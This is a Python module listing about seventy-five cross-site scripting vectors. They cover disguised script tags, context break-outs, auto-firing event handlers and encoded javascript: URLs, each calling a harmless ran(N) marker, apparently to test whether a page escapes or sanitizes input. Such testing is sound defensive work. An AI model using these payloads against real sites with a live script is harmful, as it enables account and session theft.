"""Ways to have a browser run a text as script, of the kinds that OWASP's cheat sheets on script injection describe.

Each calls `ran(N)` if it runs, by itself or when its element is pointed at, entered, focused, changed or followed.
"""

from __future__ import annotations

from collections.abc import Iterator

_CALL = "ran(N)"
_CODED = "".join(f"&#{ord(each)};" for each in "javascript:")
VECTORS = (
    # scripts, as they are and in the disguises that filters overlook
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<script/x>{_CALL}</script>",
    f"<script\t>{_CALL}</script\t>",
    f"<<script>{_CALL}//<</script>",
    f"<scr<script>ipt><script>{_CALL}</scr</script>ipt>",
    f"<script>/*<!--*/{_CALL}//--></script>",
    f"<script type=module>{_CALL}</script>",
    f'<script src="data:text/javascript,{_CALL}"></script>',
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><script href='data:text/javascript,{_CALL}'></script></svg>",
    # out of what the text may stand in
    f"</script><script>{_CALL}</script>",
    f'"}}]}}</script><script>{_CALL}</script>',
    f"</style><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</noscript><script>{_CALL}</script>",
    f"</template><script>{_CALL}</script>",
    f"</desc></title></svg><script>{_CALL}</script>",
    f"</text></svg><script>{_CALL}</script>",
    f"</caption></table><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"<!--<script>--><script>{_CALL}</script>",
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f'" onmouseover="{_CALL}" x="',
    f"' onmouseover='{_CALL}' x='",
    f'" autofocus tabindex=1 onfocus="{_CALL}" x="',
    f"` onmouseover={_CALL} x=`",
    f"x onmouseover={_CALL} ",
    # handlers that need nobody
    f"<img src=x onerror={_CALL}>",
    f"<IMG SRC=x OnErRoR={_CALL}>",
    f"<img/src='x'/onerror={_CALL}>",
    f"<img src=x onerror\n=\n{_CALL}>",
    f"<img alt='`><script>{_CALL}</script>`'><script>{_CALL}</script>",
    f"<img src=x:x onerror={_CALL.replace('ran', 'window[`ran`]')}>",
    "<img src=x onerror=&#114;an(N)>",
    "<img src=x onerror=\\u0072an(N)>",
    f"<image src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><image href=x onerror={_CALL} /></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={_CALL} attributeName=x>",
    f"<svg><a><animate attributeName=href values=javascript:{_CALL} /><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_CALL}></mtext></math>",
    f"<body onload={_CALL}>",
    f"<body onpageshow={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<video src=x onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<object data=x onerror={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={_CALL}>x</b>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_CALL}></iframe>",
    f"<iframe onload={_CALL}></iframe>",
    f"<embed src=javascript:{_CALL}>",
    f"<object data=javascript:{_CALL}></object>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    # those that need a hand
    f"<b onmouseover={_CALL}>x</b>",
    f"<b onclick={_CALL}>x</b>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<a href=' java\tscript:{_CALL}'>x</a>",
    f"<a href={_CODED}{_CALL}>x</a>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"<button formaction=javascript:{_CALL} form=f>x</button><form id=f></form>",
    f"<svg><a xlink:href=javascript:{_CALL}><text y=9>x</text></a></svg>",
    # what a page's own script might do with a text
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"datum.x'] || {_CALL} || datum['x",
    f"\\'); {_CALL}; //",
)
PLACES = ("verbatim", "header", "option", "area")


def payloads(place: str) -> list[str]:
    """Every way once for that place; the number that `ran` is given tells which and where."""
    start = 1000 * (1 + PLACES.index(place))
    return [vector.replace("(N)", f"({start + number})") for number, vector in enumerate(VECTORS)]


def unheld() -> Iterator[str]:
    """Each as markup, where it would stand on a page that escapes nothing: what it does if nothing holds it."""
    for number, vector in enumerate(VECTORS):
        around = next((each for start, each in _AROUND.items() if vector.startswith(start)), "{}")
        yield around.replace("{}", vector.replace("(N)", f"({number})"))


_AROUND = {
    '"}': '<script type="application/json">{"a": "{}"}</script>',
    '"': '<p title="{}">x</p>',
    "'": "<p title='{}'>x</p>",
    "`": "<p title={}>x</p>",
    "x ": "<p title={}>x</p>",
    "</script": "<script>x = '{}'</script>",
    "</style": "<style>{}</style>",
    "</title": "<title>{}</title>",
    "</textarea": "<textarea>{}</textarea>",
    "</noscript": "<noscript>{}</noscript>",
    "</template": "<template>{}</template>",
    "</desc": "<svg><title><desc>{}</desc></title></svg>",
    "</text>": "<svg><text>{}</text></svg>",
    "</caption": "<table><caption>{}</caption></table>",
    "-->": "<!--{}-->",
    "]]>": "<svg><![CDATA[{}]]></svg>",
}
